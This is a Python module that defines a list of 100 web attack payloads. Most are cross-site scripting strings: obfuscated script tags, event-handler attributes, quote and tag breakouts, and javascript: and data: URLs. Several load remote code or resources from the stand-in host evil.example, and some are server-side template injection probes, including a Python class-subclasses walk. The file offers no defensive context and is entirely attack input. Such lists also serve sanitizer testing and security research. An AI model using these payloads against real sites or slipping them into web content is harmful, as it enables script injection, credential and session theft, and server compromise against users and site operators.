"""A hundred ways to make a page run a script or ask another machine, by the place in the page where they would work."""

from __future__ import annotations

RUN = "window.pwned=1;alert(1)"
AWAY = "http://evil.example/x"
TAGS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={AWAY}.js></script>",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script type=module>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href={AWAY}.js /></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'></noscript>",
    f"<template><script>{RUN}</script></template>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe src={AWAY}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>",
    f"<embed src=javascript:{RUN}>",
    f"<base href={AWAY}/>",
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<link rel=import href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<style>@import '{AWAY}.css';</style>",
    f"<style>*{{background:url({AWAY})}}</style>",
    f"<form action={AWAY}><button>go</button></form>",
    f"<form id=draft action=javascript:{RUN}>",
    f"<audio src={AWAY} onerror={RUN}></audio>",
    f"<video poster={AWAY}></video>",
    f"<video><source onerror={RUN}></video>",
    f"<table background={AWAY}><tr><td>x</td></tr></table>",
    f"<body onload={RUN}>",
    f"<frameset onload={RUN}>",
    f"<bgsound src={AWAY}>",
    f"<portal src={AWAY}></portal>",
    f"<image src={AWAY} onerror={RUN}>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<xss id=x onfocus={RUN} tabindex=1 autofocus>",
]
EVENTS = "onerror onload onclick onmouseover onfocus onanimationstart ontoggle onpointerover onbegin onpageshow onscroll onwheel".split()
ATTRIBUTES = [f"<img src=x {event}={RUN}>" for event in EVENTS] + [
    f"<svg {event}={RUN}><animate attributeName=x dur=1s>" for event in EVENTS
]
QUOTES = [
    f'" onfocus={RUN} autofocus x="',
    f"' onfocus={RUN} autofocus x='",
    f'" style=background:url({AWAY}) x="',
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"`><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</option></select><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<dialog open onclose={RUN}>",
]
ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f" javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"//evil.example/{RUN}",
    f'https://evil.example/"onclick="{RUN}',
]
TEMPLATES = [
    "{{ 7 * 7 }}{{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "#{alert(1)}",
    f"<div hx-get='{AWAY}' hx-trigger=load></div>",
    f"<div hx-on:htmx:load='{RUN}'></div>",
    f"<div data-hx-on:click='{RUN}' hx-boost=true></div>",
    f"<div hx-sse:connect='{AWAY}'></div>",
    f"<a popovertarget=nav href=javascript:{RUN}>x</a>",
]
PAYLOADS = [*TAGS, *ATTRIBUTES, *QUOTES, *ADDRESSES, *TEMPLATES][:100]
PAYLOADS += [f"\u202e{payload}\u0000" for payload in TAGS[: 100 - len(PAYLOADS)]]
assert len(set(PAYLOADS)) == 100
